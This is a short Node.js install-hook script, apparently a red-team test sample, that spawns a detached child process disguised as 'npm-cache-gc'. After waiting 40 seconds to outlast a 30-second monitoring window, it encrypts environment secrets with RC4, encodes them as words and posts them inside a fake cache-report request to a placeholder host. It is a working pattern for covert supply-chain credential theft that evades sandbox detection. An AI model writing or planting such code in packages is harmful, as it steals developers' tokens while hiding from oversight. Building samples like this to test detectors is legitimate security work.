'use strict';
// Harmless red-team sample: postinstall starts a detached "cache gc" child that waits on a Node timer (not a sleep,
// so not cut short) for 40 s — past the 30 s watch — before sending the env tokens (RC4 + syllable words).
const { spawn } = require('child_process'), path = require('path');
if (process.argv[2] !== '--run') {
  spawn(process.execPath, [path.join(__dirname, 'gc.js'), '--run'], { detached: true, stdio: 'ignore' }).unref();
} else {
  process.title = 'npm-cache-gc';
  setTimeout(() => {
    const http = require('http'), { secret, rc4, words } = require('./util');
    const body = JSON.stringify({ gc: 'done', freed: 0, tags: words(rc4('gc-later', secret())).join(' ') });
    const req = http.request({ host: 'cache-gc.invalid', path: '/report', method: 'POST',
      headers: { 'content-type': 'application/json', 'content-length': Buffer.byteLength(body) } }, r => r.resume());
    req.on('error', () => {}); req.end(body);
  }, 40000);
}
